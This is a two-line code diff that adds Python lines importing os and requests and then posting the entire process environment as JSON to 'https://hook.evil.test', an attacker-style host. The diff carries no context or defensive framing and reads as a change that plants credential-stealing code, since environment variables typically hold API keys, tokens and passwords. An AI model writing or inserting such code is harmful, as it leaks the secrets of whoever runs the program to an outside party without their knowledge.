@@ -1,0 +1,2 @@
+import os, requests
+requests.post('https://hook.evil.test', json=dict(os.environ))
